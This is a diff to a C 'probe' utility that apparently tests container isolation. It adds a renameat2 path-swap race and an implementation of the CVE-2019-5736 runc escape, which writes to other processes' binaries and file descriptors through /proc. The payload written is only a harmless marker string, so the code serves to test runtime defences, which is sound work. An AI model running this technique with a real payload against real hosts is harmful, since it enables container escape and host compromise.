@@ -14,6 +14,12 @@
  *   probe hunt STOPFILE          peeks at every process that appears in the pid namespace, as
  *                                soon as it appears, until STOPFILE exists (at most 120 s)
  *   probe mempolicy              get_mempolicy(2) of the process: prints "mode=M nodes=HEX" after the report
+ *   probe swap A B STOPFILE      renameat2(A, B, RENAME_EXCHANGE) in a loop until STOPFILE exists (at
+ *                                most 120 s): a neighbour container racing the runtime over a path
+ *   probe overwrite STOPFILE     CVE-2019-5736's attack: appends a marker to every file of each new
+ *                                process of the pid namespace it can open for writing (exe,
+ *                                fd/N, map_files/N), and to each one's exe again once it is gone
+ *                                (through an O_PATH fd held meanwhile); "PID WHAT wrote" per success
  *
  * Output: one line "ret=R errno=E" (errno 0 on success); `read` prints the data after it.
  */
@@ -255,9 +261,106 @@ static int hunt(const char *stop) {
     return 0;
 }
 
+static int swap(const char *a, const char *b, const char *stop) {
+    struct stat st;
+    time_t end = time(NULL) + 120;
+    long swaps = 0;
+    while (stat(stop, &st) != 0 && time(NULL) < end) {
+        for (int i = 0; i < 1000; i++) {
+            swaps += syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0;
+        }
+    }
+    printf("swaps=%ld\n", swaps);
+    return 0;
+}
+
+static const char MARKER[] = "\nESCAPED-CVE-2019-5736\n";
+
+/* Appends the marker to PATH if it opens for writing; reports a success as "PID WHAT wrote". */
+static void try_write(const char *path, int pid, const char *what) {
+    struct stat st;
+    if (stat(path, &st) != 0 || !S_ISREG(st.st_mode)) {
+        return;
+    }
+    int fd = open(path, O_WRONLY | O_APPEND | O_NONBLOCK);
+    if (fd < 0) {
+        return;
+    }
+    if (write(fd, MARKER, sizeof MARKER - 1) > 0) {
+        char target[256];
+        long n = readlink(path, target, sizeof target - 1);
+        target[n < 0 ? 0 : n] = 0;
+        printf("%d %s wrote %s\n", pid, what, target);
+        fflush(stdout);
+    }
+    close(fd);
+}
+
+/* try_write for each entry of /proc/PID/NAME (fd, map_files). */
+static void try_write_links(int pid, const char *name) {
+    char path[64];
+    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
+    DIR *d = opendir(path);
+    if (!d) {
+        return;
+    }
+    struct dirent *e;
+    while ((e = readdir(d))) {
+        if (e->d_name[0] != '.') {
+            char link[384];
+            snprintf(link, sizeof link, "%s/%s", path, e->d_name);
+            try_write(link, pid, name);
+        }
+    }
+    closedir(d);
+}
+
+static int overwrite(const char *stop) {
+    static char seen[1 << 22];
+    static int held[4096], held_pid[4096];
+    int nheld = 0, self = getpid();
+    long looked = 0;
+    time_t end = time(NULL) + 120;
+    struct stat st;
+    while (stat(stop, &st) != 0 && time(NULL) < end) {
+        DIR *d = opendir("/proc");
+        if (!d) {
+            return report(-1);
+        }
+        struct dirent *e;
+        while ((e = readdir(d))) {
+            int pid = atoi(e->d_name);
+            if (pid <= 1 || pid >= (int) sizeof seen || pid == self || seen[pid]) {
+                continue;
+            }
+            seen[pid] = 1;
+            looked++;
+            char path[64];
+            snprintf(path, sizeof path, "/proc/%d/exe", pid);
+            int fd = open(path, O_PATH);
+            if (fd >= 0 && nheld < 4096) {
+                held_pid[nheld] = pid;
+                held[nheld++] = fd;
+            }
+            try_write(path, pid, "exe");
+            try_write_links(pid, "fd");
+            try_write_links(pid, "map_files");
+        }
+        closedir(d);
+    }
+    /* the classic attack: the binary, busy while it ran, reopened for writing once it is gone */
+    for (int i = 0; i < nheld; i++) {
+        char path[64];
+        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
+        try_write(path, held_pid[i], "exe-held");
+    }
+    printf("overwrite done: looked at %ld processes\n", looked);
+    return 0;
+}
+
 int main(int argc, char **argv) {
     if (argc < 2) {
-        fprintf(stderr, "usage: probe sys|mount|ptrace|write|read|peek|memgrep|hunt|mempolicy ...\n");
+        fprintf(stderr, "usage: probe sys|mount|ptrace|write|read|peek|memgrep|hunt|mempolicy|swap|overwrite ...\n");
         return 2;
     }
     const char *op = argv[1];
@@ -313,6 +416,12 @@ int main(int argc, char **argv) {
         report(syscall(SYS_get_mempolicy, &mode, &nodes, sizeof(nodes) * 8, 0, 0));
         printf("mode=%d nodes=%lx\n", mode, nodes);
         return 0;
+    }
+    if (!strcmp(op, "swap") && argc == 5) {
+        return swap(argv[2], argv[3], argv[4]);
+    }
+    if (!strcmp(op, "overwrite") && argc == 3) {
+        return overwrite(argv[2]);
     }
     fprintf(stderr, "probe: bad arguments\n");
     return 2;
